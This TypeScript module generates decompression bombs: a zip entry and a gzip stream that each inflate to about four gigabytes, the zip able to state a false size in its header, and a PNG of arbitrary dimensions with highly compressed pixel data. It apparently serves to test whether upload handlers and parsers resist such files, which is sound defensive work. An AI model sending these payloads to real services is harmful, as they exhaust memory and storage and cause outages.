// Files that are small to send and would be vast once unpacked, made without unpacking them here either.
import { crc32, deflateRawSync, constants } from 'node:zlib'

/** A stretch of zeroes, packed so that it may stand after itself any number of times. */
interface Stretch {
  readonly bytes: number
  readonly packed: Buffer
}

function stretchOf(bytes: number): Stretch {
  return { bytes, packed: deflateRawSync(Buffer.alloc(bytes), { level: 9, finishFlush: constants.Z_FULL_FLUSH }) }
}

/** An empty last block of DEFLATE. */
const END = Buffer.from([0x03, 0x00])

function packedZeroes({ bytes, packed }: Stretch, times: number): { total: number; data: Buffer } {
  return { total: bytes * times, data: Buffer.concat([...Array.from({ length: times }, () => packed), END]) }
}

/** As many megabytes as a length of 32 bits can tell. */
const fourGigabytes = () => packedZeroes(stretchOf(2 ** 20), 4095)

/** A zip with one entry of four gigabytes of nothing. @param told what it says that it holds */
export function zipBomb(name: string, told?: number): Buffer {
  const { total, data } = fourGigabytes()
  const title = Buffer.from(name)
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50)
  local.writeUInt16LE(20, 4)
  local.writeUInt16LE(8, 8)
  local.writeUInt32LE(data.length, 18)
  local.writeUInt32LE(told ?? total, 22)
  local.writeUInt16LE(title.length, 26)
  const entry = Buffer.alloc(46)
  entry.writeUInt32LE(0x02014b50)
  entry.writeUInt16LE(20, 4)
  local.copy(entry, 6, 4, 30)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50)
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(entry.length + title.length, 12)
  end.writeUInt32LE(local.length + title.length + data.length, 16)
  return Buffer.concat([local, title, data, entry, title, end])
}

/** The same as gzip, which says nothing before its end. */
export function gzipBomb(): Buffer {
  const { total, data } = fourGigabytes()
  const end = Buffer.alloc(8)
  end.writeUInt32LE(total, 4)
  return Buffer.concat([Buffer.from('1f8b0800000000000003', 'hex'), data, end])
}

/** A grey PNG of one colour and any size, right to its last check sum. */
export function plainPng(width: number, height: number): Buffer {
  const rows = 100
  const { total, data } = packedZeroes(stretchOf((width + 1) * rows), height / rows)
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width)
  head.writeUInt32BE(height, 4)
  head[8] = 8
  // Adler-32 of nothing but zeroes.
  const sum = Buffer.alloc(4)
  sum.writeUInt16BE(total % 65_521)
  sum.writeUInt16BE(1, 2)
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    block('IHDR', head),
    block('IDAT', Buffer.concat([Buffer.from([0x78, 0xda]), data, sum])),
    block('IEND', Buffer.alloc(0)),
  ])
}

function block(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}
